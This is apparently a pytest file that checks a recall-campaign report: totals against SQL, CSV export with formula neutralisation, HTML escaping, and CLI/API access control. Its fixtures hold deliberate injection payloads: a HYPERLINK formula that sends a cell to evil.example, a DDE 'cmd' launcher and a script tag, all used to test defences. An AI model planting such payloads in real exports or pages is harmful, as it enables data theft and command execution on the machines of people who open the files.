"""A recall campaign's report, on the real store, queue and SMTP sink: its totals are the
database's (counted here with plain SQL), its CSV parses back one row per consignee with
formulas neutralised, its HTML escapes what the ERP sent, and the CLI and the API write it
(the API only for callers who see the shop and may export)."""

from __future__ import annotations

import csv
import io
import json
import secrets
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import respx
from aiosmtpd.controller import Controller
from fastapi.testclient import TestClient
from pydantic import SecretStr
from redis import Redis
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from refundbridge.api.app import create_app
from refundbridge.bootstrap import Container, bootstrap
from refundbridge.cli import app as cli
from refundbridge.config.settings import ApiTokenSettings
from refundbridge.core.campaign_report import (
    CSV_COLUMNS,
    build_report,
    csv_chunks,
    html_chunks,
    iter_rows,
    safe_cell,
)
from refundbridge.core.campaigns import Acknowledgement, RecallAction, RecallNotice
from refundbridge.core.recalls import RecallClass
from refundbridge.core.services.campaigns import acknowledge, open_campaign
from refundbridge.demo import Mailbox
from tests.conftest import drain, test_settings
from tests.factories import AUTH, SHOP, config_toml, request_body, signed
from tests.fakes.erpnext import ERPNextFake
from tests.fakes.stripe import StripeFake

LOT = "L2401"
SECRET = "status-link-secret-for-report-tests-0123"
OTHER_SHOP = "beta-health"
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'
SCRIPT = '<script>alert("x")</script> 王&李'
TOKENS = {  # name -> (role, shops, secret)
    "acme.auditor": ("auditor", [SHOP], "tk_" + secrets.token_hex(12)),
    "acme.warehouse": ("warehouse", [SHOP], "tk_" + secrets.token_hex(12)),
    "beta.auditor": ("auditor", [OTHER_SHOP], "tk_" + secrets.token_hex(12)),
}
Providers = tuple[respx.MockRouter, StripeFake, ERPNextFake]


def auth(name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKENS[name][2]}"}


def shipments(count: int) -> list[dict[str, Any]]:
    rows = [{"customer": f"CUST-{i:04d}", "name": f"客户 {i}", "sku": "GLU-METER-01",
             "quantity": 1 + i % 3, "document": f"DN-{i:04d}", "lot": LOT,
             "order_id": f"SO-{i:04d}", "email": f"buyer{i}@example.com",
             "shipped_on": "2026-10-01"} for i in range(count)]
    rows[1]["name"] = FORMULA
    rows[2]["name"] = SCRIPT
    rows[3]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[4]["email"] = None  # nobody to tell: unreached
    return rows


def notice() -> RecallNotice:
    return RecallNotice(reference="RC-2026-REPORT", recall_class=RecallClass.II,
                        notice_date=date(2026, 12, 1), sku="GLU-METER-01", lots=(LOT,),
                        actions=(RecallAction.STOP_USE, RecallAction.RETURN),
                        instructions="Stop using meters of lot L2401.")


@pytest.fixture
def report_container(db: Engine, redis_conn: Redis, smtp_server: tuple[Controller, Mailbox],
                     database_url: str) -> Iterator[Container]:
    """One shop on the sandbox ERP (its shipments are the consignees) and Stripe's fake,
    a second shop, and tokens by role and shop."""
    settings = test_settings(database_url, smtp_server[0].port, erp="sandbox_erp",
                             sandbox_erp={"shipments": shipments(40), "stock": []})
    shops = dict(settings.shops)
    shops[OTHER_SHOP] = shops[SHOP].model_copy()
    tokens = [*settings.api_tokens, *(
        ApiTokenSettings.model_validate({"name": name, "token": secret, "role": role,
                                         "shops": scope})
        for name, (role, scope, secret) in TOKENS.items())]
    settings = settings.model_copy(update={"status_link_secret": SecretStr(SECRET),
                                           "shops": shops, "api_tokens": tokens})
    container = bootstrap(settings, redis=redis_conn, engine=db)
    yield container
    container.close()


@pytest.fixture
def api(report_container: Container) -> Iterator[TestClient]:
    with TestClient(create_app(report_container)) as client:
        yield client


def returned_case(api: TestClient, container: Container) -> str:
    """A return of two recalled meters through the webhook, received at the warehouse and
    refunded: the kind of case a recall campaign links to a consignee."""
    body = request_body(kind="return_and_refund", **{"order.id": "SO-0007"})
    raw, headers = signed(body)
    answer = api.post(f"/webhooks/{SHOP}/generic", content=raw, headers=headers)
    assert answer.status_code == 202, answer.text
    case_id = str(answer.json()["case_id"])
    drain(container)
    receipt = api.post(f"/v1/cases/{case_id}/receipt", headers=AUTH, json={"lines": [
        {"line": 0, "seal_intact": True, "condition": "as_new", "inspector": "wang.fang",
         "quantity": 2}]})
    assert receipt.status_code == 200, receipt.text
    drain(container)
    assert api.get(f"/v1/cases/{case_id}", headers=AUTH).json()["state"] == "closed"
    return case_id


@pytest.fixture
def campaign(report_container: Container, api: TestClient, providers: Providers) -> str:
    """A campaign told through the workers, answered by some, with recall cases asked for
    (the generic storefront cannot look orders up: a person arranges those) and one real
    returned-and-refunded case linked to its consignee."""
    svc = report_container.services
    opened = open_campaign(svc, SHOP, notice(), "operator:qa")
    drain(report_container)
    repo = report_container.campaigns
    records = {r.key: r for r in repo.consignees(opened.campaign_id, limit=1000)}
    answers = {
        "CUST-0001": Acknowledgement(True, 2, True, passed_on=True, note="=1+1"),
        "CUST-0002": Acknowledgement(True, 0, False),
        "CUST-0005": Acknowledgement(False, 3, False, note="still in use, 等待更换"),
        "CUST-0007": Acknowledgement(True, 2, True),
        "CUST-0008": Acknowledgement(True, 1, True),
    }
    for key, answer in answers.items():
        assert acknowledge(svc, opened.campaign_id, records[key].id, answer).recorded
    drain(report_container)
    case_id = returned_case(api, report_container)
    repo.link_case(opened.campaign_id, records["CUST-0007"].id, case_id, None)
    return opened.campaign_id


def sql_totals(engine: Engine, campaign_id: str) -> dict[str, Any]:
    """The campaign's figures counted straight from the tables."""
    with engine.connect() as conn:
        one = conn.execute(text(
            "SELECT count(*), "
            " sum(CASE WHEN email_state IN ('sent','unconfirmed') "
            "       OR sms_state IN ('sent','unconfirmed') THEN 1 ELSE 0 END), "
            " sum(CASE WHEN email_state IN ('failed','none') "
            "       AND sms_state IN ('failed','none') THEN 1 ELSE 0 END), "
            " count(acknowledged_at), sum(quantity), count(case_id), "
            " sum(CASE WHEN case_problem IS NOT NULL THEN 1 ELSE 0 END), sum(reminders) "
            "FROM campaign_consignees WHERE campaign_id = :c"), {"c": campaign_id}).one()
        acks = [json.loads(a) if isinstance(a, str) else a for a in conn.execute(text(
            "SELECT acknowledgement FROM campaign_consignees "
            "WHERE campaign_id = :c AND acknowledged_at IS NOT NULL"),
            {"c": campaign_id}).scalars()]
        cases = conn.execute(text(
            "SELECT k.id, k.currency, k.refunded_minor, k.request::text, "
            " EXISTS (SELECT 1 FROM case_events e WHERE e.case_id = k.id "
            "         AND e.to_state = 'received_goods') "
            "FROM cases k JOIN campaign_consignees c ON c.case_id = k.id "
            "WHERE c.campaign_id = :c"), {"c": campaign_id}).all()
        head = conn.execute(text(
            "SELECT hash FROM campaign_events WHERE campaign_id = :c ORDER BY seq DESC "
            "LIMIT 1"), {"c": campaign_id}).scalar_one()
    refunded: dict[str, int] = {}
    for case in cases:
        if case[2]:
            refunded[case[1]] = refunded.get(case[1], 0) + int(case[2])
    return {
        "consignees": one[0], "notified": one[1], "unreached": one[2], "acknowledged": one[3],
        "units_shipped": one[4], "cases": one[5], "case_problems": one[6], "reminders": one[7],
        "stopped_use": sum(bool(a["stopped_use"]) for a in acks),
        "passed_on": sum(bool(a["passed_on"]) for a in acks),
        "units_held": sum(int(a["quantity_held"]) for a in acks),
        "units_to_return": sum(int(a["quantity_held"]) for a in acks if a["wants_return"]),
        "units_returned": sum(sum(int(li["quantity"]) for li in json.loads(c[3])["lines"])
                              for c in cases if c[4]),
        "refunds_paid": sum(1 for c in cases if c[2]),
        "refunded_minor": refunded, "head": head}


def test_the_reports_totals_are_the_databases(report_container: Container, campaign: str,
                                              db: Engine) -> None:
    report = build_report(report_container.campaigns, campaign, at=datetime.now(UTC),
                          by="test", page=7)  # several pages, one not full
    expected = sql_totals(db, campaign)
    t = report.totals
    assert len(report.rows) == expected["consignees"] == 40
    got = {name: getattr(t, name) for name in expected if name not in {
        "refunded_minor", "head"}}
    assert got == {k: v for k, v in expected.items() if k not in {"refunded_minor", "head"}}
    assert {c: m.minor for c, m in t.refunded.items()} == expected["refunded_minor"]
    # The scenario is what it claims: someone unreached, a refund paid, units back.
    assert t.unreached == 1 and t.refunds_paid == 1 and t.units_returned == 2
    assert t.case_problems == 2  # asked to return, but the storefront cannot look orders up
    assert report.differences == []
    assert report.chain.verifies and report.chain.head == expected["head"]
    assert [r.consignee_id for r in report.rows] == sorted(r.consignee_id for r in report.rows)


def test_the_csv_parses_back_one_row_per_consignee_with_formulas_neutralised(
        report_container: Container, campaign: str, db: Engine) -> None:
    data = b"".join(csv_chunks(iter_rows(report_container.campaigns, campaign, page=9),
                               every=4))
    assert data.startswith(b"\xef\xbb\xbf")
    assert "客户 10".encode() in data  # UTF-8, as Excel reads it after the BOM
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    with db.connect() as conn:
        ids = [str(i) for i in conn.execute(text(
            "SELECT id FROM campaign_consignees WHERE campaign_id = :c ORDER BY id"),
            {"c": campaign}).scalars()]
    assert [r["consignee_id"] for r in rows] == ids
    by_key = {r["consignee_key"]: r for r in rows}
    assert by_key["CUST-0001"]["name"] == "'" + FORMULA
    assert by_key["CUST-0001"]["note"] == "'=1+1"
    assert by_key["CUST-0003"]["name"].startswith("'@SUM")
    assert by_key["CUST-0002"]["name"] == SCRIPT  # text, quoted as RFC 4180 says
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert by_key["CUST-0007"]["units_returned"] == "2"
    assert by_key["CUST-0007"]["refunded_amount"] == "398.00"
    assert by_key["CUST-0007"]["refunded_currency"] == "CNY"
    assert by_key["CUST-0005"]["stopped_use"] == "no"
    assert by_key["CUST-0004"]["methods"] == ""
    assert by_key["CUST-0000"]["methods"] == "email"
    assert sum(int(r["units_shipped"]) for r in rows) == sql_totals(db, campaign)[
        "units_shipped"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2", "'-2"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("王=李", "王=李"), ("", ""), (None, ""), (3, "3")])
def test_a_cell_that_would_be_a_formula_is_text(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_the_html_escapes_what_the_erp_sent_and_says_the_trail_verifies(
        report_container: Container, campaign: str, db: Engine) -> None:
    report = build_report(report_container.campaigns, campaign, at=datetime.now(UTC),
                          by="token:acme.auditor")
    document = "".join(html_chunks(report, size=512))
    assert "<script>" not in document
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; 王&amp;李" in document
    assert "召回计划实施情况报告" in document and "21 CFR 7.53" in document
    assert "已验证 verifies" in document
    assert sql_totals(db, campaign)["head"] in document
    assert "<link" not in document and "src=" not in document  # nothing loaded from outside
    assert document.count("<tr><td class=\"n\">") == 40


def test_a_tampered_trail_is_reported_as_such(report_container: Container, campaign: str,
                                              db: Engine) -> None:
    with db.begin() as conn:
        conn.execute(text("UPDATE campaign_events SET actor = 'someone.else' "
                          "WHERE campaign_id = :c AND seq = 2"), {"c": campaign})
    report = build_report(report_container.campaigns, campaign, at=datetime.now(UTC),
                          by="test")
    assert not report.chain.verifies and "event 2" in (report.chain.problem or "")
    assert "does NOT verify" in "".join(html_chunks(report))


def test_the_cli_writes_the_report_by_reference_or_id(
        report_container: Container, campaign: str, database_url: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REFUNDBRIDGE_CONFIG", raising=False)
    config = tmp_path / "refundbridge.toml"
    config.write_text(config_toml(database_url), encoding="utf-8")
    out = tmp_path / "report.csv"
    ran = CliRunner().invoke(cli, ["recalls", "campaign", "report", "RC-2026-REPORT",
                                   "--shop", SHOP, "--format", "csv", "--output", str(out),
                                   "--config", str(config)])
    assert ran.exit_code == 0, ran.output
    assert "40 consignees" in ran.output and "audit trail verifies" in ran.output
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert len(rows) == 40
    page = tmp_path / "report.html"
    ran = CliRunner().invoke(cli, ["recalls", "campaign", "report", campaign, "--shop", SHOP,
                                   "--format", "html", "-o", str(page), "--config",
                                   str(config)])
    assert ran.exit_code == 0, ran.output
    assert "RC-2026-REPORT" in page.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "refundbridge.toml", "report.csv", "report.html"]  # no partial file left behind
    missing = CliRunner().invoke(cli, ["recalls", "campaign", "report", "RC-NOPE", "--shop",
                                       SHOP, "-o", str(tmp_path / "x.csv"), "--config",
                                       str(config)])
    assert missing.exit_code == 2 and not (tmp_path / "x.csv").exists()


def test_the_api_streams_it_to_those_who_see_the_shop_and_may_export(
        api: TestClient, campaign: str) -> None:
    path = f"/v1/recall-campaigns/{campaign}/report"
    answer = api.get(path, headers=auth("acme.auditor"))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == 40
    page = api.get(path, params={"format": "html"}, headers=AUTH)
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert "&lt;script&gt;" in page.text and "<script>" not in page.text
    # Another shop's caller: as if it did not exist; a role that may not export: 403.
    assert api.get(path, headers=auth("beta.auditor")).status_code == 404
    assert api.get(path, headers=auth("acme.warehouse")).status_code == 403
    assert api.get(path).status_code == 401
    assert api.get("/v1/recall-campaigns/rcp_nope/report", headers=AUTH).status_code == 404
    assert api.get(path, params={"format": "pdf"}, headers=AUTH).status_code == 422


def test_a_campaign_of_another_shop_is_not_found_by_the_cli(
        report_container: Container, campaign: str, database_url: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REFUNDBRIDGE_CONFIG", raising=False)
    config = tmp_path / "refundbridge.toml"
    config.write_text(config_toml(database_url) + f"""
[shops.{OTHER_SHOP}]
storefront = "generic"
payment = "sandbox_payment"
erp = "sandbox_erp"
notifier = "sandbox_notifier"

[shops.{OTHER_SHOP}.generic]
secret = "gsec_{secrets.token_hex(16)}"
""", encoding="utf-8")
    ran = CliRunner().invoke(cli, ["recalls", "campaign", "report", campaign, "--shop",
                                   OTHER_SHOP, "-o", str(tmp_path / "x.csv"), "--config",
                                   str(config)])
    assert ran.exit_code == 2, ran.output
    assert "no recall campaign" in ran.output

